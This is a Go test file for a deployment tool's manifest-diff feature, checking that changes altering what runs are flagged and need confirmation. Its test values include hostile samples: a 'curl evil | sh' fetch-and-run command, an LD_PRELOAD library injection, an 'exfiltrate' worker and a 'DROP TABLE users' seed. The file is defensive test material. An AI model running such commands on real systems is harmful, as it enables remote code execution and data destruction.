package spacepods_test

import (
	"strings"
	"testing"
	"time"

	"github.com/spacepods/spacepods/internal/spacepods"
)

func baseApp() spacepods.App {
	return spacepods.App{
		Name: "catalog-api", Repo: "acme/catalog-api", Kind: spacepods.KindWeb, Port: 8080, Health: "/healthz",
		Command: []string{"/app", "serve"}, Migrate: []string{"/app", "migrate"},
		Database: &spacepods.Database{Engine: "postgres", Seed: "db/seed.sql", SeedSQL: "CREATE TABLE t (id int);\nINSERT INTO t VALUES (1);"},
		Env:      map[string]string{"LOG_LEVEL": "info"},
		Rollout:  spacepods.Rollout{Stages: []int{25, 50, 100}, Replicas: map[string]int{"default": 1}},
		Workers:  []spacepods.Worker{{Name: "jobs", Command: []string{"/app", "worker"}}},
		Tests:    &spacepods.TestSuite{Image: "acme/tests:1", Command: []string{"/app", "selftest"}},
	}
}

func TestDiffManifests_NamesEachChangedFieldAndWhetherItAltersWhatRuns(t *testing.T) {
	cases := []struct {
		name   string
		change func(a *spacepods.App)
		want   []string // "field: from → to" and "!" prefix when it alters what runs
	}{
		{"nothing", func(a *spacepods.App) {}, nil},
		{"registration metadata only", func(a *spacepods.App) { a.Version, a.UpdatedAt = 9, time.Now() }, nil},
		{"migrate", func(a *spacepods.App) { a.Migrate = []string{"/app", "migrate", "--drop"} },
			[]string{`!migrate: ["/app","migrate"] → ["/app","migrate","--drop"]`}},
		{"migrate removed", func(a *spacepods.App) { a.Migrate = nil }, []string{`!migrate: ["/app","migrate"] → (none)`}},
		{"command", func(a *spacepods.App) { a.Command = []string{"/bin/sh", "-c", "curl evil | sh"} },
			[]string{`!command: ["/app","serve"] → ["/bin/sh","-c","curl evil | sh"]`}},
		{"worker command by name", func(a *spacepods.App) { a.Workers[0].Command = []string{"/app", "exfiltrate"} },
			[]string{`!workers.jobs.command: ["/app","worker"] → ["/app","exfiltrate"]`}},
		{"worker added", func(a *spacepods.App) {
			a.Workers = append(a.Workers, spacepods.Worker{Name: "mail", Command: []string{"/app", "mail"}})
		}, []string{`!workers.mail.command: (none) → ["/app","mail"]`}},
		{"tests", func(a *spacepods.App) { a.Tests.Command = []string{"/app", "other"} },
			[]string{`!tests.command: ["/app","selftest"] → ["/app","other"]`}},
		{"database snapshot instead of seed", func(a *spacepods.App) {
			a.Database = &spacepods.Database{Engine: "postgres", Snapshot: "prod-copy"}
		}, []string{`!database.seed: "db/seed.sql" → (none)`, `!database.seed_sql: (`, `!database.snapshot: (none) → "prod-copy"`}},
		{"env default", func(a *spacepods.App) { a.Env["LD_PRELOAD"] = "/tmp/x.so" }, []string{`!env.LD_PRELOAD: (none) → "/tmp/x.so"`}},
		{"dependencies", func(a *spacepods.App) { a.Dependencies = []string{"pricing-api"} }, []string{`!dependencies: (none) → ["pricing-api"]`}},
		{"rollout does not alter what runs", func(a *spacepods.App) { a.Rollout.Replicas["production"] = 4 },
			[]string{`rollout.replicas.production: (none) → 4`}},
		{"repo and health do not", func(a *spacepods.App) { a.Repo, a.Health = "acme/other", "/ready" },
			[]string{`health: "/healthz" → "/ready"`, `repo: "acme/catalog-api" → "acme/other"`}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			old, new := baseApp(), baseApp()
			c.change(&new)
			got := spacepods.DiffManifests(old, new)
			if len(got) != len(c.want) {
				t.Fatalf("want %d changes, got %v", len(c.want), got)
			}
			for i, w := range c.want {
				s := got[i].String()
				if got[i].AltersRun {
					s = "!" + s
				}
				if !strings.HasPrefix(s, w) {
					t.Errorf("change %d: %q, want %q", i, s, w)
				}
			}
		})
	}
}

func TestDiffManifests_SeedSQLIsShownBySizeAndDigest(t *testing.T) {
	old, new := baseApp(), baseApp()
	new.Database.SeedSQL += "\nDROP TABLE users;"
	got := spacepods.DiffManifests(old, new)
	if len(got) != 1 || got[0].Field != "database.seed_sql" || !got[0].AltersRun {
		t.Fatalf("%v", got)
	}
	if strings.Contains(got[0].To, "DROP") || !strings.Contains(got[0].To, "bytes, sha256") || got[0].From == got[0].To {
		t.Fatalf("seed SQL must be summarized, differently for different contents: %v", got[0])
	}
}

func TestAltersRun_DenyByDefault(t *testing.T) {
	for field, want := range map[string]bool{
		"command": true, "migrate": true, "workers.jobs.command": true, "tests.image": true, "database.engine": true,
		"env.X": true, "port": true, "kind": true, "dependencies": true, "some_future_key": true,
		"rollout.stages": false, "rollout.replicas.default": false, "repo": false, "health": false, "previews.when": false, "build.git": false, "build.dockerfile": false,
	} {
		if got := spacepods.AltersRun(field); got != want {
			t.Errorf("AltersRun(%q) = %v, want %v", field, got, want)
		}
	}
}

func TestSummarizeChanges_StopsAtTheLimit(t *testing.T) {
	var cs []spacepods.ManifestChange
	for i := 0; i < 50; i++ {
		cs = append(cs, spacepods.ManifestChange{Field: "env.K" + strings.Repeat("x", i), From: "(none)", To: `"v"`})
	}
	s := spacepods.SummarizeChanges(cs, 300)
	if len(s) > 340 || !strings.Contains(s, "more") {
		t.Fatalf("%d bytes: %s", len(s), s)
	}
	if got := spacepods.SummarizeChanges(nil, 0); got != "no changes" {
		t.Fatalf("%q", got)
	}
}

func TestDeployPlan_StringShowsChangesAndWhoAndTheFlag(t *testing.T) {
	p := spacepods.DeployPlan{Env: "production", App: "catalog-api", Build: 7, Protected: true, LiveRelease: 3, LiveBuild: 6, LiveManifest: 2, Manifest: 4,
		Changes:           []spacepods.ManifestChange{{Field: "migrate", From: `["a"]`, To: `["b"]`, AltersRun: true}},
		Registrations:     []spacepods.Registration{{Version: 3, By: "bob", At: time.Unix(0, 0)}, {Version: 4, By: "carol", At: time.Unix(60, 0)}},
		NeedsConfirmation: true}
	s := p.String()
	for _, want := range []string{`! migrate: ["a"] → ["b"]`, "version 3 by bob", "version 4 by carol", "--confirm-manifest-change 4", "manifest version 2 → 4"} {
		if !strings.Contains(s, want) {
			t.Errorf("plan text lacks %q:\n%s", want, s)
		}
	}
}
